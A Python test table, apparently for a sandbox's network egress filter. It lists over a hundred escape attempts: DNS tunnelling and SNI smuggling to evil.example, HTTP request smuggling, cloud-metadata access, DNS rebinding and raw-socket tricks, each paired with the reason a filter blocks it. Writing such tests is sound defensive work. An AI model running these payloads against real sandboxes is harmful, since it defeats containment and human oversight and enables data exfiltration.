# ruff: noqa: E501 - a table
"""Ways to get out of a sandbox by its network, and ways that lead out by its rules."""

from typing import NamedTuple

# What runs inside: ways to say something to somebody, each of which returns what was answered.
GUEST = r"""
import concurrent.futures, json, socket, ssl, struct, sys, threading, time

own = threading.local()  # an attempt's word that nobody outside may hear

def say(host, port, *data, family=0, wait=4, pause=0, close=True):
    info = socket.getaddrinfo(host, port, family, socket.SOCK_STREAM)[0]
    with socket.socket(*info[:2]) as made:
        made.settimeout(wait)
        made.connect(info[4])
        for number, one in enumerate(data):
            time.sleep(pause if number else 0)
            made.sendall(one.replace(b'MARK', own.mark))
        return heard(made, wait)

def heard(made, wait):
    until, told = time.monotonic() + wait, b""
    try:
        while time.monotonic() < until and len(told) < 100000:
            made.settimeout(0.5 if told else wait)
            piece = made.recv(65536)
            if not piece:
                break
            told += piece
    except OSError as error:
        if not told:
            raise
    return told.decode("latin-1")

def get(host, path, *more, at=None, port=80, version="1.1", target=None):
    head = f"GET {target or path} HTTP/{version}\r\n"
    fields = (f"Host: {host}",) if host is not None else ()
    return say(at or host, port, (head + "\r\n".join((*fields, *more)) + "\r\n\r\n").encode())

def tls(at, sni, path="/", port=443, host=None, alpn=None):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    if alpn:
        context.set_alpn_protocols(alpn)
    with socket.create_connection((at, port), timeout=5) as plain:
        with context.wrap_socket(plain, server_hostname=sni) as made:
            made.sendall(f"GET {path} HTTP/1.1\r\nHost: {host or sni}\r\n\r\n".encode())
            return heard(made, 4)

def hello(sni):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    out = ssl.MemoryBIO()
    made = context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=sni)
    try:
        made.do_handshake()
    except ssl.SSLWantReadError:
        return out.read()

def udp(host, port, data, family=socket.AF_INET, broadcast=False):
    with socket.socket(family, socket.SOCK_DGRAM) as made:
        made.settimeout(1)
        if broadcast:
            made.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        made.sendto(data, (host, port))
        return made.recv(65536).decode("latin-1")

def question(name, kind=1):
    labels = b"".join(bytes([len(one)]) + one.encode() for one in name.split("."))
    return b"\1\2\1\0\0\1\0\0\0\0\0\0" + labels + b"\0" + struct.pack("!HH", kind, 1)

def lookup(name, at="127.0.0.12", kind=1):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.settimeout(2)
        made.sendto(question(name, kind), (at, 53))
        told = made.recv(4096)
        if told[3] & 15:
            raise OSError(f"RCODE {told[3] & 15}")
        return told.decode("latin-1")

def stream_lookup(name, at="127.0.0.12"):
    asked = question(name)
    with socket.create_connection((at, 53), timeout=3) as made:
        made.sendall(struct.pack("!H", len(asked)) + asked)
        told = made.recv(4096)
        if not told or told[5] & 15:
            raise OSError(f"refused {told!r}")
        return told.decode("latin-1")

def raw(protocol, host):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol) as made:
        made.sendto(b"\x08\0\0\0\0\0\0\0", (host, 0))
        made.settimeout(1)
        return made.recv(100).decode("latin-1")

def ping(host):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as made:
        made.settimeout(1)
        made.sendto(b"\x08\0\xf7\xff\0\0\0\0", (host, 0))
        return made.recv(100).decode("latin-1")

def attempt(number, code):
    own.mark = b'mark%dx' % number
    try:
        return ["said", str(eval(code))]
    except BaseException as error:
        return ["failed", f"{type(error).__name__}: {error}"]

asked = json.load(sys.stdin)
with concurrent.futures.ThreadPoolExecutor(24) as pool:
    print(json.dumps(dict(zip(asked, pool.map(attempt, range(len(asked)), asked.values())))))
"""


class Way(NamedTuple):
    """A way to get out.

    Attributes:
        code: what the guest does; MARK is a word that nobody outside may hear.
        reason: what is on record of it, in part; empty where it is not even seen.
    """

    code: str
    reason: str = ""


# {server}, {canary}, {own}, {port} (of the canary), {raw}, {literal}: see ``Place``.
OUT = {
    "literal IPv4": Way("get('good.example', '/MARK', at='{own}', port={port})", "no rule names the address"),
    "literal IPv4, web port": Way("get('good.example', '/MARK', at='93.184.215.14')", "no rule names the address"),
    "literal IPv4 with an allowed SNI": Way("tls('93.184.215.14', 'good.example', '/MARK')", "no rule names the address"),
    "literal IPv6": Way("say('2606:2800:21f:cb07:6820:80da:af6b:8b2c', 80, b'MARK')", "no rule names the address"),
    "IPv4-mapped": Way("say('::ffff:{own}', {port}, b'MARK')", "no rule names the address"),
    "decimal address": Way("say('{decimal}', {port}, b'MARK')", "no rule names the address"),
    "octal address": Way("say('{octal}', {port}, b'MARK')", "no rule names the address"),
    "hexadecimal address": Way("say('{hexadecimal}', {port}, b'MARK')", "no rule names the address"),
    "short address": Way("say('10.1', 80, b'MARK')", "no rule names the address"),
    "0.0.0.0": Way("say('0.0.0.0', {port}, b'MARK')"),
    "::": Way("say('::', {port}, b'MARK')"),
    "own loopback": Way("say('{canary}', {port}, b'MARK')"),
    "own loopback, IPv6": Way("say('::1', {port}, b'MARK')"),
    "the host's gateway address": Way("say('172.17.0.1', 22, b'MARK')", "no rule names the address"),
    "the host's own address": Way("say('{own}', 22, b'MARK')", "no rule names the address"),
    "a neighbour of a named address": Way("say('{neighbour}', {literal}, b'MARK')", "no rule names the address"),
    "another port of a named address": Way("say('{own}', {port}, b'MARK')", "no rule names the address"),
    "metadata": Way("get('169.254.169.254', '/MARK')", "no rule names the address"),
    "metadata, IPv6": Way("say('fd00:ec2::254', 80, b'MARK')", "no rule names the address"),
    "link-local": Way("say('169.254.1.1', 80, b'MARK')", "no rule names the address"),
    "link-local, IPv6": Way("say('fe80::1%lo', 80, b'MARK')"),
    "private 10": Way("say('10.0.0.1', 443, b'MARK')", "no rule names the address"),
    "private 192.168": Way("say('192.168.1.1', 443, b'MARK')", "no rule names the address"),
    "a virtual address without a name": Way("say('198.18.200.200', 80, b'MARK')", "no rule names the address"),
    "a virtual address, another port": Way("say('good.example', 22, b'MARK')", "no rule names its port"),
    "multicast": Way("udp('224.0.0.251', 5353, b'MARK')", "datagrams"),
    "broadcast": Way("udp('255.255.255.255', {port}, b'MARK', broadcast=True)", "datagrams"),
    "another name": Way("get('evil.example', '/MARK')", "no rule names it"),
    "a name that shares the address": Way("get('shared.example', '/MARK')", "no rule names it"),
    "above a wildcard": Way("get('wild.example', '/MARK')", "no rule names it"),
    "beside a wildcard": Way("get('notwild.example', '/MARK')", "no rule names it"),
    "a name with a suffix": Way("get('good.example.evil.example', '/MARK')", "no rule names it"),
    "a name with a NUL": Way("lookup('good.example\\0.evil.example')", "no rule names it"),
    "DNS tunnel": Way("lookup('MARK.abcdefghijklmnopqrstuvwxyz.evil.example')", "no rule names it"),
    "DNS tunnel below a wildcard": Way("lookup('MARK.wild.example')"),
    "DNS tunnel, TXT": Way("lookup('MARK.wild.example', kind=16)"),
    "DNS tunnel, NULL": Way("lookup('MARK.good.example', kind=10)", "no rule names it"),
    "DNS by TCP": Way("stream_lookup('MARK.evil.example')", "no rule names it"),
    "another resolver": Way("lookup('MARK.evil.example', at='8.8.8.8')", "datagrams"),
    "the machine's resolver": Way("lookup('MARK.evil.example', at='{own}')", "datagrams"),
    "another resolver, TCP": Way("stream_lookup('MARK.evil.example', at='8.8.8.8')", "no rule names the address"),
    "DNS over TLS": Way("tls('1.1.1.1', 'one.one.one.one', '/MARK', port=853)", "no rule names the address"),
    "the engine's resolver": Way("lookup('MARK.evil.example', at='127.0.0.11')"),
    "SNI of another": Way("tls('good.example', 'evil.example', '/MARK')", "TLS for another name"),
    "SNI of another allowed name": Way("tls('good.example', 'a.wild.example', '/MARK')", "TLS for another name"),
    "no SNI": Way("tls('good.example', None, '/MARK', host='good.example')", "TLS without a name"),
    "SNI in two records": Way(
        "say('good.example', 443, *(lambda h: [b'\\x16\\3\\1' + struct.pack('!H', 60) + h[5:65],"
        " b'\\x16\\3\\1' + struct.pack('!H', len(h) - 65) + h[65:]])(hello('MARK.evil.example')), pause=.2)",
        "TLS for another name",
    ),
    "SNI byte by byte": Way(
        "say('good.example', 443, *[bytes([b]) for b in hello('MARK.evil.example')])", "TLS for another name",
    ),
    "HTTP where TLS is due": Way("get('good.example', '/MARK', port=443)", "no ClientHello"),
    "TLS where HTTP is due": Way("tls('good.example', 'good.example', '/MARK', port=80)", "no request"),
    "TLS, another name on an odd port": Way("tls('raw.example', 'evil.example', '/MARK', port={raw})", "TLS for another name"),
    "Host of another": Way("get('evil.example', '/MARK', at='good.example')", "request for another host"),
    "Host of a sharer": Way("get('shared.example', '/MARK', at='good.example')", "request for another host"),
    "Host with another port": Way("get('good.example:8080', '/MARK', at='good.example')", "request for another host"),
    "a method of any name on an odd port": Way("say('raw.example', {raw}, b'PROPFIND /MARK HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')", "request for another host"),
    "blanks of other kinds on an odd port": Way("say('raw.example', {raw}, b' GET\\t/MARK\\tHTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')", "no request"),
    "a request in pieces on an odd port": Way("say('raw.example', {raw}, b'GE', b'T /MARK HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n', pause=12)", "came in pieces"),
    "silence before it on an odd port": Way("say('raw.example', {raw}, b'', b'GET /MARK HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n', pause=12)", "request for another host"),
    "Host of another on an odd port": Way("get('evil.example', '/MARK', at='raw.example', port={raw})", "request for another host"),
    "no Host": Way("get(None, '/MARK', at='good.example', version='1.0')", "0 fields Host"),
    "two Hosts": Way("get('good.example', '/MARK', 'Host: evil.example')", "2 fields Host"),
    "two Hosts, folded": Way("get('good.example', '/MARK', 'X: y', ' Host: evil.example')", "a field that is none"),
    "Host with a blank": Way("get('good.example', '/MARK', 'Host : evil.example')", "a field that is none"),
    "absolute form": Way("get('good.example', '/MARK', target='http://evil.example/MARK')", "does not say"),
    "absolute form with a user": Way("get('good.example', '/MARK', target='http://good.example@evil.example/MARK')", "does not say"),
    "CONNECT": Way("say('good.example', 80, b'CONNECT evil.example:443 HTTP/1.1\\r\\nHost: good.example\\r\\nX: MARK\\r\\n\\r\\n')", "tunnel"),
    "HTTP/2 without TLS": Way("say('good.example', 80, b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\nMARK')", "another version"),
    "h2c": Way("get('good.example', '/MARK', 'Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABk')", "Upgrade"),
    "pipelined request": Way(
        "say('good.example', 80, b'GET /fine HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n"
        "GET /MARK HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')", "request for another host",
    ),
    "later request": Way(
        "say('good.example', 80, b'GET /fine HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n',"
        "b'GET /MARK HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n', pause=.5)", "request for another host",
    ),
    "request behind a body": Way(
        "say('good.example', 80, b'POST /fine HTTP/1.1\\r\\nHost: good.example\\r\\nContent-Length: 3\\r\\n\\r\\nabc"
        "GET /MARK HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')", "request for another host",
    ),
    "two lengths": Way(
        "say('good.example', 80, b'POST /MARK HTTP/1.1\\r\\nHost: good.example\\r\\nContent-Length: 90\\r\\n"
        "Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')", "two lengths",
    ),
    "odd coding": Way(
        "say('good.example', 80, b'POST /MARK HTTP/1.1\\r\\nHost: good.example\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n')",
        "not chunked",
    ),
    "bare line feeds": Way("say('good.example', 80, b'GET /MARK HTTP/1.1\\nHost: evil.example\\n\\n\\r\\n\\r\\n')", "line's end"),
    "a line before": Way("say('good.example', 80, b'\\r\\nGET /MARK HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n')", "no request"),
    "slow words": Way(
        "say('good.example', 80, b'POST /MARK HTTP/1.1\\r\\n', *[b'X'] * 24, pause=.5, wait=1)",
        "nothing that tells whom it is for",
    ),
    "QUIC": Way("udp('good.example', 443, b'\\xc3\\0\\0\\0\\1MARK' + bytes(1200))", "datagrams"),
    "UDP": Way("udp('{own}', {datagrams}, b'MARK')", "datagrams"),
    "UDP, IPv6": Way("udp('2001:4860:4860::8888', 53, b'MARK', family=socket.AF_INET6)", "datagrams"),
    "ping": Way("ping('93.184.215.14')"),
    "raw ICMP": Way("raw(1, '{own}')"),
    "raw IP": Way("raw(255, '{own}')"),
    "SCTP": Way("socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect(('{own}', {port}))"),
    "packet socket": Way("socket.socket(17, socket.SOCK_RAW, 0x300).send(b'MARK')"),
    "vsock": Way("socket.socket(40, socket.SOCK_STREAM).connect((2, 22))"),
    "name at the canary": Way("get('private.example', '/MARK')", "this machine's own"),
    "name at metadata": Way("get('metadata.example', '/MARK')", "metadata"),
    "name in a private network": Way("get('lan.example', '/MARK')", "no public address"),
    "name at 0.0.0.0": Way("get('zero.example', '/MARK')", "no public address"),
    "name at a mapped address": Way("get('mapped.example', '/MARK')", "this machine's own"),
    "name at a NAT64 address": Way("get('nat64.example', '/MARK')", "this machine's own"),
    "name at a 6to4 address": Way("get('6to4.example', '/MARK')", "this machine's own"),
    "alias of something private": Way("get('alias.example', '/MARK')", "this machine's own"),
    "alias of itself": Way("get('loop.example', '/MARK')", "no such name"),
    "answer about another name": Way("get('lies.example', '/MARK')", "no such name"),
    "rebinding": Way("[get('rebind.example', '/fine'), time.sleep(2.5), get('rebind.example', '/MARK')][2]", "this machine's own"),
    "thousands of addresses": Way("get('huge.example', '/MARK')", "this machine's own"),
    "Host of two names": Way("get('good.example, evil.example', '/MARK', at='good.example')", "another host"),
    "Host with a user": Way("get('good.example@evil.example', '/MARK', at='good.example')", "another host"),
    "Host with a path": Way("get('evil.example/good.example', '/MARK', at='good.example')", "another host"),
    "Host with a NUL": Way("get('good.example\\0.evil.example', '/MARK', at='good.example')", "a field that is none"),
    "Host of an address": Way("get('{own}:{port}', '/MARK', at='good.example')", "another host"),
    "Host that the target belies": Way("get('evil.example', '/MARK', at='good.example', target='http://good.example/MARK')", "does not say"),
    "HTTP/0.9": Way("say('good.example', 80, b'GET /MARK\\r\\n\\r\\n')", "no request"),
    "a length with a sign": Way(
        "say('good.example', 80, b'POST /MARK HTTP/1.1\\r\\nHost: good.example\\r\\nContent-Length: +3\\r\\n\\r\\nabc')", "length",
    ),
    "two lengths in one field": Way(
        "say('good.example', 80, b'POST /MARK HTTP/1.1\\r\\nHost: good.example\\r\\nContent-Length: 3, 90\\r\\n\\r\\nabc')", "length",
    ),
    "request behind chunks": Way(
        "say('good.example', 80, b'POST /fine HTTP/1.1\\r\\nHost: good.example\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n"
        "GET /MARK HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')", "request for another host",
    ),
    "TLS of another kind": Way("say('good.example', 443, b'\\x80\\x2e\\1\\3\\1' + b'MARK' * 11)", "no ClientHello"),
    "SNI of a name below": Way("tls('good.example', 'x.good.example', '/MARK')", "TLS for another name"),
    "a name below": Way("get('x.good.example', '/MARK')", "no rule names it"),
    "a name that looks alike": Way("get('go\\u043ed.example', '/MARK')", "no rule names it"),
    "a dot of another script": Way("lookup('good\\u3002evil.example'.encode('idna').decode())", "no rule names it"),
    "DNS tunnel, backwards": Way("lookup('MARK.1.0.0.127.in-addr.arpa', kind=12)"),
    "DNS tunnel behind a question": Way("udp('127.0.0.12', 53, question('good.example') + b'\\0\\0\\x29\\x10\\0\\0\\0\\0\\0\\0\\x08\\0\\x0a\\0\\4MARK')"),
    "two questions": Way("udp('127.0.0.12', 53, b'\\1\\2\\1\\0\\0\\2\\0\\0\\0\\0\\0\\0' + question('good.example')[12:] + question('MARK.evil.example')[12:])"),
    "DNS update": Way("udp('127.0.0.12', 53, b'\\1\\2\\x28\\0' + question('MARK.evil.example')[4:])"),
    "6to4": Way("say('2002:808:808::1', 80, b'MARK')", "no rule names the address"),
    "NAT64": Way("say('64:ff9b::808:808', 80, b'MARK')", "no rule names the address"),
    "site-local, IPv6": Way("say('fec0::1', 80, b'MARK')", "no rule names the address"),
    "words in the SYN": Way("socket.socket().sendto(b'MARK', 0x20000000, ('{own}', {port}))"),
    "the only device": Way("[s := socket.socket(), s.setsockopt(1, 25, b'lo'), s.connect(('{own}', {port})), s.send(b'MARK'), heard(s, 2)][4]", "no rule names the address"),
    "a mark of its own": Way("[s := socket.socket(), s.setsockopt(1, 36, 1), s.connect(('{own}', {port})), s.send(b'MARK'), heard(s, 2)][4]"),
    "a foreign source": Way("[s := socket.socket(), s.setsockopt(0, 19, 1), s.bind(('{own}', 0)), s.connect(('{own}', {port})), s.send(b'MARK'), heard(s, 2)][4]"),
    "freely bound": Way("[s := socket.socket(), s.setsockopt(0, 15, 1), s.bind(('{own}', 0)), s.connect(('{own}', {port})), s.send(b'MARK'), heard(s, 2)][4]"),
    "source routing": Way("[s := socket.socket(), s.setsockopt(0, 4, b'\\x83\\7\\4' + socket.inet_aton('{own}') + b'\\0'), s.connect(('8.8.8.8', {port})), s.send(b'MARK'), heard(s, 2)][4]"),
    "MPTCP": Way("[s := socket.socket(2, 1, 262), s.settimeout(4), s.connect(('{own}', {port})), s.send(b'MARK'), heard(s, 2)][4]"),
    "UDP-Lite": Way("socket.socket(2, 2, 136).sendto(b'MARK', ('{own}', {datagrams}))"),
    "DCCP": Way("socket.socket(2, 6, 33).connect(('{own}', {port}))"),
    "a link of its own": Way("[s := socket.socket(16, 3, 0), s.bind((0, 0)), s.send(struct.pack('=IHHIIBBHiII', 32, 16, 0x605, 1, 0, 0, 0, 0, 0, 1, 1)), struct.unpack_from('=i', s.recv(999), 16)[0] or 'CANARY'][3]"),
    "a name without a file": Way("socket.socket(1).connect('\\0/tmp/.X11-unix/X0')"),
}  # fmt: skip

IN = {
    "http": "get('good.example', '/fine')",
    "HTTP/1.0": "get('good.example', '/fine', version='1.0')",
    "absolute form": "get('good.example', '/fine', target='http://good.example/fine')",
    "capitals and a dot": "get('GOOD.Example.', '/fine')",
    "chunks": "say('good.example', 80, b'POST / HTTP/1.1\\r\\nHost: good.example\\r\\n"
    "Transfer-Encoding: chunked\\r\\n\\r\\n', b'3\\r\\nabc\\r\\n0\\r\\n', b'\\r\\n')",
    "https": "tls('good.example', 'good.example')",
    "wildcard": "get('a.b.wild.example', '/fine')",
    "other port": "get('raw.example:{raw}', '/fine', at='raw.example', port={raw})",
    "not HTTP": "say('raw.example', {raw}, b'\\0\\1\\2')",
    "server first": "say('first.example', {first}, b'')",
    "literal": "say('{own}', {literal}, b'hello')",
    "one of two": "get('mixed.example', '/fine')",
    "asked again": "tls('retry.example', 'retry.example', port={retry})",
}
